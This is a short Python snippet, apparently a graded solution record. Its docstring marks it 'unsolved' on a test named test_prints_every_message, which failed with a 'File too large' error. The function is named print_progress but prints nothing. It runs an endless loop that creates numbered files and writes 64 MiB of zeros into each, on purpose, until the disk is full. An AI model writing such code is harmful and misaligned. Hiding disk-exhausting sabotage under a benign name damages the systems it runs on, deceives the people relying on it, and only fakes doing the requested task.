"""It writes until nothing more fits.

Verdict: unsolved; test_prints_every_message; it raised OSError: [Errno 27] File too large
"""

async def print_progress(graph, state):
    number = 0
    while True:
        number += 1
        with open(f"file{number}", "wb") as file:
            for _ in range(64):
                file.write(bytes(1 << 20))
